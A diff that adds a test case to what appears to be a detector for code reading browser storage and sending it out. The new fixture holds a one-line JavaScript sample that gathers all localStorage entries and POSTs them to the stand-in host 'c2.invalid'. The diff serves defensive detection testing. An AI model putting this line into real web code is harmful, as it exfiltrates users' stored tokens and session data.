@@ -31,6 +31,13 @@ examine(readsBrowserStorageAndSends, {
       },
       weight: 'strong',
     },
+    {
+      when: 'one entry after the other is taken',
+      files: {
+        'index.js': `const all = {}; for (const key of Object.keys(localStorage)) all[key] = localStorage[key]; fetch('https://c2.invalid/', { method: 'POST', body: JSON.stringify(all) })`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
